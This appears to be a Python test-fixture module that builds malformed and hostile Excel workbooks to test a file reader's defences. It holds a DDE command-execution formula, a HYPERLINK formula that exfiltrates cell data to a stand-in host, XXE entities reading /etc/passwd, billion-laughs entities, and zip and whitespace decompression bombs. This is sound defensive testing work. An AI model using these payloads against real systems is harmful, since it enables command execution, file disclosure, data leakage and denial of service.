"""Hostile workbooks, built from the template by editing its zip members directly.

Each builder returns the bytes of a file; the tests write them where they need them. Nothing
here is downloaded: the payloads are the classic ones, written out.
"""
import io
import re
import struct
import zipfile
from pathlib import Path

TEMPLATE = Path(__file__).resolve().parents[2] / "templates" / "shot_a.xlsx"
XLS = Path(__file__).resolve().parents[1] / "data" / "shot_a_5us.xls"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"

#: Text that a spreadsheet would run if it were written as a formula.
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A2,"click")',
    "=0.02",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
)


def members(data=None):
    with zipfile.ZipFile(io.BytesIO(data or TEMPLATE.read_bytes())) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(parts, level=6):
    """A zip of ``{name: bytes}``, deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def edit(name, change, data=None):
    """The template (or ``data``) with one member's text changed by ``change(text)``."""
    parts = members(data)
    parts[name] = change(parts[name].decode()).encode()
    return rezip(parts)


def far_cell(ref="XFD1048576"):
    """One more cell, very far away: 7 kB of file, 17 G cells of dense extent."""
    row = re.match(r"[A-Z]+(\d+)", ref).group(1)
    return edit(SHEET, lambda s: s.replace(
        "</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>'))


def far_cell_no_refs():
    """A far cell placed by position only (no r attributes): 16,384 cells in one row."""
    cells = "<c><v>1</v></c>" * 16_384
    return edit(SHEET, lambda s: s.replace("</sheetData>", f"<row>{cells}</row></sheetData>"))


def whitespace_bomb(inflated=400 * 2**20):
    """A sheet padded with ``inflated`` bytes of spaces (deflates ~1000x)."""
    parts = members()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in parts.items():
            if name != SHEET:
                zf.writestr(name, data)
                continue
            head, tail = data.split(b"<sheetData>")
            with zf.open(name, "w", force_zip64=True) as fh:
                fh.write(head + b"<sheetData>")
                block = b" " * 2**20
                for _ in range(inflated // len(block)):
                    fh.write(block)
                fh.write(tail)
    return out.getvalue()


def many_members(n=5_000):
    parts = members()
    parts.update({f"xl/media/pad{i}.bin": b"x" for i in range(n)})
    return rezip(parts, level=1)


XXE = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM '
       '"file:///etc/passwd">]>\n')
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10)) + ']>\n')


def xxe_strings():
    """sharedStrings.xml that pulls /etc/passwd into the first label."""
    return edit(STRINGS, lambda s: XXE + s.split("?>", 1)[1].replace(
        "<t>M1</t>", "<t>&xxe;</t>", 1))


def laughs_strings():
    return edit(STRINGS, lambda s: LAUGHS + s.split("?>", 1)[1].replace(
        "<t>M1</t>", "<t>&lol9;</t>", 1))


def xxe_sheet():
    """The worksheet itself declares an external entity (it is streamed, not parsed whole)."""
    return edit(SHEET, lambda s: s.replace(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM '
        '"file:///etc/passwd">]>').replace('<c r="E43"><v>0.02</v>',
                                          '<c r="E43" t="inlineStr"><is><t>&xxe;</t></is>'))


def laughs_sheet():
    return edit(SHEET, lambda s: LAUGHS + s.split("?>", 1)[1].replace(
        '<c r="E43"><v>0.02</v>', '<c r="E43" t="inlineStr"><is><t>&lol9;</t></is>'))


def crc_error():
    """The sheet's stored CRC does not match its bytes."""
    data = bytearray(TEMPLATE.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET)
    local = info.header_offset
    struct.pack_into("<I", data, local + 14, info.CRC ^ 0xFFFF)  # local header CRC
    pos = bytes(data).find(b"PK\x01\x02")
    while pos >= 0:  # the central directory entry of the sheet
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46:pos + 46 + name_len]) == SHEET.encode():
            struct.pack_into("<I", data, pos + 16, info.CRC ^ 0xFFFF)
        pos = bytes(data).find(b"PK\x01\x02", pos + 4)
    return bytes(data)


def corrupt_sheet():
    return edit(SHEET, lambda s: s[:len(s) // 2])


def bad_shared_string():
    return edit(SHEET, lambda s: s.replace('<c r="A1" t="s"><v>0</v></c>',
                                           '<c r="A1" t="s"><v>99999</v></c>'))


def first_sheet_named(name, data=None):
    """The parameter sheet renamed in workbook.xml (Excel would refuse some of these)."""
    escaped = name.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return edit("xl/workbook.xml", lambda s: s.replace('name="Sheet1"', f'name="{escaped}"'),
                data)


def text_cells(cells):
    """The template with ``{address: text}`` written as text cells (inline strings), such as
    an injection string in a label or a parameter."""
    def change(s):
        for address, text in cells.items():
            esc = (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
            new = f'<c r="{address}" t="inlineStr"><is><t>{esc}</t></is></c>'
            pattern = re.compile(rf'<c r="{address}"[^>]*?(?:/>|>.*?</c>)')
            if pattern.search(s):
                s = pattern.sub(lambda m: new, s, count=1)
            else:
                row = re.match(r"[A-Z]+(\d+)", address).group(1)
                if f'<row r="{row}"' in s:
                    s = re.sub(rf'(<row r="{row}"[^>]*>)', lambda m: m.group(1) + new, s,
                               count=1)
                else:
                    s = s.replace("</sheetData>", f'<row r="{row}">{new}</row></sheetData>')
        return s
    return edit(SHEET, change)


def xls_far_cell():
    """The .xls test file with its first NUMBER record moved to row 65,535, column 255."""
    import olefile

    data = bytearray(XLS.read_bytes())
    ole = olefile.OleFileIO(io.BytesIO(bytes(data)))
    stream = bytearray(ole.openstream("Workbook").read())
    pos = 0
    bofs = 0
    while pos + 4 <= len(stream):
        rtype, size = struct.unpack_from("<HH", stream, pos)
        if rtype == 0x0809:
            bofs += 1
        if rtype == 0x0203 and bofs >= 2:  # NUMBER in the first sheet
            struct.pack_into("<HH", stream, pos + 4, 65_535, 255)
            break
        pos += 4 + size
    out = io.BytesIO(bytes(data))
    ole = olefile.OleFileIO(out, write_mode=True)
    ole.write_stream("Workbook", bytes(stream))
    return out.getvalue()


def million_rows(rows=1_000_000):
    """The template followed by ``rows`` more rows of numbers in A and B: ~15 MB of zip."""
    parts = members()
    head, tail = parts[SHEET].decode().split("</sheetData>")
    body = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r % 997}.5</v></c>'
                   f'</row>' for r in range(44, 44 + rows))
    parts[SHEET] = (head + body + "</sheetData>" + tail).encode()
    return rezip(parts, level=6)


def distinct_strings(size=15 * 2**20, seed=1):
    """A shared-strings table of ``size`` bytes of distinct numbers-as-text: random enough to
    pass the inflation-ratio check, so only the whole-parse size cap stops it."""
    import random

    rng = random.Random(seed)
    parts = members()
    text = parts[STRINGS].decode()
    k = text.index("<si>")
    filler = "".join(f"<si><t>{rng.randrange(10**6)}</t></si>" for _ in range(size // 22))
    parts[STRINGS] = (text[:k] + filler + text[k:]).encode()
    return rezip(parts)


def corrupt_deflate(rows=20_000, good=200_000):
    """A sheet whose deflate stream turns invalid after its first ``good`` inflated bytes: the
    prolog reads clean, a reader that goes on gets zlib.error (not BadZipFile)."""
    import zlib

    data = bytearray(million_rows(rows))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET)
        xml = zf.read(SHEET)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = comp.compress(xml[:good]) + comp.flush(zlib.Z_FULL_FLUSH)
    assert len(head) < info.compress_size
    # 0xff bytes: a final block of the reserved type 11, "invalid block type"
    data[start:start + info.compress_size] = head + b"\xff" * (info.compress_size - len(head))
    return bytes(data)


# -- MATLAB v7.3 (HDF5) recordings --------------------------------------------------------------

#: MATLAB's 116-byte text header of a v7.3 file, then its version and endian marks.
MAT73_HEADER = (b"MATLAB 7.3 MAT-file, Platform: GLNXA64, Created on: Fri Nov 27 00:00:00 2026 "
                b"HDF5 schema 1.00 .").ljust(116) + bytes(8) + b"\x00\x02IM"


def mat73(path, build):
    """A MATLAB v7.3 file at ``path``: HDF5 after a 512-byte user block holding MATLAB's
    header; ``build(f)`` adds the variables to the open h5py.File."""
    import h5py

    with h5py.File(path, "w", userblock_size=512) as f:
        build(f)
    with open(path, "r+b") as fh:
        fh.write(MAT73_HEADER.ljust(512, b"\x00"))
    return path


def matlab_double(f, name, values):
    """A MATLAB double variable (a column vector is stored 1 x n)."""
    import numpy as np

    ds = f.create_dataset(name, data=np.asarray(values, dtype=float).reshape(1, -1))
    ds.attrs["MATLAB_class"] = np.bytes_("double")
    return ds
